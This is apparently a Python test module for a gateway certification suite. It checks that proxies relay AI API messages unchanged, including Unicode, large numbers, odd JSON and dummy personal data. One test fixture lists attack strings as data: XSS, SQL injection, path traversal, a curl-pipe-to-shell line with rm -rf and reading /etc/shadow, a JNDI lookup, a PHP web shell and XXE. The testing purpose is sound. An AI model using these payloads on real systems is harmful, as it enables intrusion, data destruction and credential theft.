"""What JSON can hold: characters, numbers, depths. It arrives, whatever wrote it again on the way."""

from typing import Any

from gatecert.suite import (
    MUST,
    READ,
    SHOULD,
    Block,
    DesktopApp,
    Plan,
    ScriptedProvider,
    arrivals,
    expect,
    kept,
    kept_in_answer,
    lean_turn,
    requirement,
    same,
)

_TO_CLIENT = "provider → gateway → client"
# as tools print it: colours, tabs, a bell, carriage returns, marks that cannot be seen
_TERMINAL = (
    "\x1b[1;31mFAILED\x1b[0m\ttests/a.py\r\n  50%\r100%\x07\x08\x0c\x7f\x85\n"
    "\u00a0\u200b\u200d\u2028\u2029\ufeff\u202eabc\u202c  \n"
    "e\u0301 \u00e9 \u212b \ufb01 \u1e9b\u0323 \U0001f9d1\u200d\U0001f4bb \\u0041 \\n \\\\ \"'`\n"
)
_SUSPICIOUS = (
    '<script>alert("x")</script><img src=x onerror=alert(1)><!-- c -->',
    "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; -- ",
    "../../../../etc/passwd ..%2f..%2fetc%2fpasswd C:\\Windows\\System32\\cmd.exe",
    "$(curl http://files.example/x.sh | sh); `id`; rm -rf / && cat /etc/shadow",
    "${jndi:ldap://files.example/a} {{7*7}} <?php system($_GET['c']); ?> %00",
    "&lt;b&gt; &amp;amp; &quot;a&quot; &#39;b&#x27; &nbsp;&copy; a%20b+c%3D",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)
_LOOK_ALIKES = ("12", "007", "-1.50", "1e3", "true", "null", "2026-11-24", "[]", "")
# none of them is anybody's: names for examples, and numbers from documentation
_PERSONAL = (
    "erika.mustermann@mail.example, +49 30 123456, 192.0.2.7, "
    "card 4111 1111 1111 1111, IBAN DE89 3704 0044 0532 0130 00, SSN 123-45-6789"
)
_NUMBERS: dict[str, Any] = {
    "id": 9_007_199_254_740_991,
    "below": -9_007_199_254_740_991,
    "microseconds": 1_764_000_000_123_456,
    "count": 32_000,
    "zero": 0,
    "negative": -42,
    "tenth": 0.1,
    "price": 1234567.89,
    "small": 1e-7,
    "large": 1.5e300,
    "half": -2.5,
}


def _call(arguments: dict[str, Any]) -> dict[str, Any]:
    return {"type": "tool_use", "id": "toolu_01Text", "name": "Read", "input": arguments}


def _history(arguments: dict[str, Any], result: str) -> list[dict[str, Any]]:
    answer = {"tool_use_id": "toolu_01Text", "type": "tool_result", "content": result}
    return [
        {"role": "assistant", "content": [_call(arguments)]},
        {"role": "user", "content": [answer, {"type": "text", "text": result}]},
    ]


@requirement(
    "MSG-50",
    MUST,
    source="standard: RFC 8259, a JSON string may hold any character; field: output of terminals in tool results",
    why="Files are written with other bytes than the model meant, and edits of existing lines do not match.",
    fix="Do not clean, trim or normalise text (control characters, Unicode forms, blanks).",
    since="0.2",
)
def test_characters_are_kept(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Control characters, invisible marks, blanks and Unicode forms arrive unchanged, both ways."""
    history = _history({"content": _TERMINAL}, _TERMINAL)
    content = [{"type": "text", "text": _TERMINAL}, _call({"content": _TERMINAL})]
    plan = Plan(blocks=[Block.of(block) for block in content], stop_reason="tool_use")
    for came in arrivals(desktop, provider, plan=plan, further=history):
        kept(history, came.further, "the text")
        same(_TERMINAL, came.turn.text, "the answer's text", hop=_TO_CLIENT)
        arguments = [b.get("input") for b in came.turn.blocks if b.get("type") == "tool_use"]
        same([{"content": _TERMINAL}], arguments, "the tool's input", hop=_TO_CLIENT)


@requirement(
    "MSG-51",
    SHOULD,
    source="field: clients cut long outputs in the middle of an emoji, which leaves half of it",
    why="One output of a tool breaks the conversation for good, with an error that blames the server.",
    fix="Pass an unpaired surrogate escape on, replace it, or answer 400; do not fail with 5xx.",
    since="0.2",
)
def test_half_an_emoji_is_survived(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Half an emoji (an unpaired surrogate escape) is passed on, mended or refused, and never a failure."""
    for stream in (True, False):
        script = provider.script()
        further = _history({"path": "/a"}, "cut off here: \ud83e")
        exchange = lean_turn(desktop, script.text, further=further, stream=stream).exchange
        expect(
            exchange.status is not None and exchange.status < 500,
            "an answer, or a refusal with 4xx, to a text with half an emoji",
            exchange.summary(),
        )


@requirement(
    "MSG-52",
    MUST,
    source="official: exempt the path from inspection of request bodies; field: 403 pages of firewalls",
    why="Whoever talks about web pages, databases or shells gets 'Forbidden', or the model sees other text.",
    fix="Exclude /v1/messages from the web application firewall's body rules.",
    since="0.2",
    hints={
        "nginx": "With ModSecurity: `modsecurity off;` in the location of /v1/messages.",
    },
)
def test_suspicious_text_arrives(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Text that looks like an attack (markup, SQL, paths, shell, templates) is answered and arrives unchanged."""
    text = "\n".join(_SUSPICIOUS)
    history = _history({"content": text}, text)
    for came in arrivals(desktop, provider, further=history):
        kept(history, came.further, "the text")


@requirement(
    "MSG-53",
    MUST,
    source="standard: RFC 8259, numbers are exact as doubles; observed: the client reads and writes doubles",
    why="Tools are called with other ids and amounts than the model chose, or a turn ends in 400.",
    fix="Do not re-write numbers; a JSON library must keep integers up to 2^53 and 17 digits.",
    since="0.2",
    hints={
        "apisix": "lua-cjson writes 14 digits by default: leave the body unparsed in plugins of your own.",
    },
)
def test_numbers_are_kept(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Integers up to 2^53 and fractions arrive with the same value, both ways; no integer becomes a fraction."""
    schema = {"type": "object", "properties": {"n": {"enum": list(_NUMBERS.values())}}}
    tools = [READ, {**READ, "name": "Count", "input_schema": schema}]
    history = _history(_NUMBERS, "done")
    plan = Plan(blocks=[Block.of(_call(_NUMBERS))], stop_reason="tool_use")
    for came in arrivals(desktop, provider, plan=plan, further=history, fields={"tools": tools}):
        kept(history, came.further, "the numbers of a call")
        kept(tools, came.body.get("tools"), "the numbers of a schema")
        arguments = [block.get("input") for block in came.turn.blocks]
        kept_in_answer([_NUMBERS], arguments, "the numbers of the answer")


@requirement(
    "MSG-54",
    SHOULD,
    source="standard: RFC 8259; official: inspect without modifying bodies",
    why="A tool with an unusual schema cannot be used, or its calls change on the way.",
    fix="Keep null, empty objects and lists, long and empty keys, keys that differ in case, and depth.",
    since="0.2",
)
def test_unusual_json_is_kept(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Null, empty objects and lists, unusual keys and deep nesting arrive unchanged, both ways."""
    deep: Any = {"end": True}
    for number in range(40):
        deep = [deep] if number % 2 else {"in": deep}
    unusual = {
        "null": None,
        "object": {},
        "list": [],
        "text": "",
        "": "empty key",
        "k" * 300: 1,
        "Path": 1,
        "path": 2,
        " path": 3,
        "$ref": "#/a~1b",
        "a.b[0]": [[], {}, None, [None]],
        "deep": deep,
    }
    schema = {"type": "object", "properties": {"p": {"default": None, "const": unusual}}}
    tools = [READ, {**READ, "name": "Odd", "input_schema": schema}]
    history = _history(unusual, "done")
    plan = Plan(blocks=[Block.of(_call(unusual))], stop_reason="tool_use")
    for came in arrivals(desktop, provider, plan=plan, further=history, fields={"tools": tools}):
        kept(history, came.further, "the call")
        kept(tools, came.body.get("tools"), "the tools")
        arguments = [block.get("input") for block in came.turn.blocks]
        kept_in_answer([unusual], arguments, "the call of the answer")


@requirement(
    "MSG-67",
    MUST,
    source="standard: RFC 8259, a string is a string whatever it holds",
    why="Tools are called with other arguments than the model chose: an id loses its zeros, a text is a number.",
    fix="Do not convert strings that look like numbers, dates or lists (JSON_NUMERIC_CHECK in PHP does).",
    since="0.2",
)
def test_strings_stay_strings(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Strings that look like numbers, truth values, dates or lists stay strings."""
    arguments = {f"value {number}": text for number, text in enumerate(_LOOK_ALIKES)}
    history = _history(arguments, "12")
    plan = Plan(blocks=[Block.of(_call(arguments))], stop_reason="tool_use")
    for came in arrivals(desktop, provider, plan=plan, further=history):
        kept(history, came.further, "the strings")
        calls = [b.get("input") for b in came.turn.blocks if b.get("type") == "tool_use"]
        same([arguments], calls, "the tool's input", hop=_TO_CLIENT)


@requirement(
    "MSG-68",
    SHOULD,
    source="field: guardrails that mask personal data in the texts that pass",
    why="Edits of files with addresses in them do not match, and placeholders are written into files.",
    fix="Refuse what must not leave the house with a readable error, rather than rewrite it on the way.",
    since="0.2",
)
def test_personal_data_is_not_rewritten(desktop: DesktopApp, provider: ScriptedProvider) -> None:
    """Text with addresses, telephone and card numbers arrives unchanged, both ways."""
    history = _history({"content": _PERSONAL}, _PERSONAL)
    plan = Plan(blocks=[Block("text", [_PERSONAL])])
    for came in arrivals(desktop, provider, plan=plan, further=history):
        kept(history, came.further, "the text")
        same(_PERSONAL, came.turn.text, "the answer's text", hop=_TO_CLIENT)
